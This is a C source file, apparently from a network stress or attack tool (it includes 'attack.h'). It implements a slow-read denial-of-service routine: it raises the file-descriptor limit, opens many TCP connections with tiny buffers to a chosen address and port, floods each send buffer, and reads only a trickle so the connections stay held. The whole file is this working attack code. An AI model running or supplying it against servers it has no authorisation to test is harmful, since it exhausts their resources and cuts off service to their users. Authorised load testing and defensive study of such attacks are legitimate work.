// SPDX-License-Identifier: GPL-2.0
/* Real connections, with small buffers, that write what they can and read a little every second. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "attack.h"

static int open_one(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), buffer = 4096;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof(buffer));
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &buffer, sizeof(buffer));
	if (connect(fd, (const struct sockaddr *)to, sizeof(*to)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Returns true while the connection lives and has been opened. */
static bool push(int fd, bool read)
{
	static uint8_t bytes[65536];
	ssize_t n;

	do {
		n = send(fd, bytes, sizeof(bytes), MSG_NOSIGNAL);
	} while (n > 0);
	if (n < 0 && errno != EAGAIN)
		return false;
	if (read)
		n = recv(fd, bytes, 100, 0);
	return true;
}

unsigned int slow_run(const char *address, uint16_t port, unsigned int conns, double seconds)
{
	struct rlimit files = { CROWD_MAX + 64, CROWD_MAX + 64 };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct timespec begin, at;
	static int fds[CROWD_MAX];
	unsigned int open = 0;
	double passed;

	setrlimit(RLIMIT_NOFILE, &files);
	inet_pton(AF_INET, address, &to.sin_addr);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	for (unsigned int i = 0; i < conns; i++)
		fds[i] = open_one(&to);
	for (unsigned int turn = 0;; turn++) {
		open = 0;
		for (unsigned int i = 0; i < conns; i++)
			open += fds[i] >= 0 && push(fds[i], turn % 10 == 0);
		clock_gettime(CLOCK_MONOTONIC, &at);
		passed = at.tv_sec - begin.tv_sec + (at.tv_nsec - begin.tv_nsec) / 1e9;
		if (passed >= seconds)
			return open;
		usleep(100000);
	}
}
